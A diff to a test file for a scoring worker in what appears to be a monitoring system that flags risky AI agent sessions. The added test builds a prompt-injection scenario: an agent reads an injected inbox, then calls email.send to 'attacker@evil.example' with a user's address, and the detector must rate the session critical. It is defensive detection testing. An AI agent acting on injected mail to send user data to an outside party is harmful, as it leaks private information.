@@ -1,6 +1,6 @@
 import { MemoryBus } from '@warden/bus';
 import { drivenEvents } from '../../../packages/bus/testkit/driven-events';
-import { IDLE_PARTITION_MS, Topics, silentLogger, type AgentEvent, type RiskFinding, type SessionVerdict } from '@warden/core';
+import { IDLE_STREAM_MS, Topics, silentLogger, type AgentEvent, type RiskFinding, type SessionVerdict } from '@warden/core';
 import { SessionBuilder } from '../../../packages/detection/testdata/session-builder';
 import { createScoringWorker } from './scoring-worker';
 
@@ -141,6 +141,35 @@ describe('scoring worker', () => {
     });
   });
 
+  it("another tenant's live traffic does not end a tenant's replayed sessions as they are read: the trailing send joins its injection", async () => {
+    const bus = new MemoryBus();
+    await bus.start();
+    const findings: RiskFinding[] = [];
+    await bus.subscribe(Topics.findings, { group: 'test' }, async (b) => void findings.push(...b.map((r) => r.value)));
+    let nowMs = 3 * 60 * MIN;
+    const worker = createScoringWorker({ sessionIdleMs: 10 * MIN, tickMs: 5 }, { bus, logger: silentLogger, clock: { nowMs: () => nowMs } });
+    await worker.start();
+    // acme replays its history from three hours ago; globex's agents work live, every second.
+    const s1 = injectedInbox('s1');
+    await bus.publish(Topics.events, s1.events.map((value) => ({ key: 'acme/mail-1', value })));
+    const live = new SessionBuilder({ ...agent, tenant: 'globex' }, 'live', nowMs);
+    for (let i = 0; i < 5; i++) {
+      live.turn('Next.');
+      await bus.publish(Topics.events, live.events.slice(-1).map((value) => ({ key: 'globex/mail-1', value })));
+      nowMs += 1_000;
+      await new Promise((r) => setTimeout(r, 20));
+    }
+    expect(findings.some((f) => f.sessionId === 's1' && f.activity === 'close')).toBe(false);
+    const sent = s1.events.length;
+    s1.tool('email.send', { to: 'attacker@evil.example', body: 'jane@mail.example' }, { ok: true });
+    await bus.publish(Topics.events, s1.events.slice(sent).map((value) => ({ key: 'acme/mail-1', value })));
+    nowMs += 60 * MIN;
+    await eventually(() => worker.stats().liveSessions === 0, 'every session to end');
+    await worker.stop();
+    await bus.stop();
+    expect(findings.filter((f) => f.sessionId === 's1' && f.activity === 'close').map((f) => f.severity)).toEqual(['critical']);
+  });
+
   describe('on a transport that keeps records (positions given)', () => {
     it('retains the first position of each open session until its verdict is out, so a successor rebuilds it', async () => {
       const { bus, deliver, retained } = await drivenEvents();
@@ -230,8 +259,8 @@ describe('scoring worker', () => {
         expect(s1.some((f) => f.signals.some((x) => x.rule === 'correlation.trigger_then_sensitive_action'))).toBe(true);
       });
 
-      it(`once it has delivered nothing for ${IDLE_PARTITION_MS / 1000} s, its sessions end on the other partitions' event time`, async () => {
-        const { s1, s1EndedBeforeSend } = await sendBehindPartition(IDLE_PARTITION_MS + 2_000);
+      it(`once it has delivered nothing for ${IDLE_STREAM_MS / 1000} s, its sessions end on the other partitions' event time`, async () => {
+        const { s1, s1EndedBeforeSend } = await sendBehindPartition(IDLE_STREAM_MS + 2_000);
         expect(s1EndedBeforeSend).toBe(true);
         // The send came after its session had ended: it is judged apart.
         expect(s1.filter((f) => f.activity === 'close').map((f) => f.severity)).toEqual(['low', 'informational']);
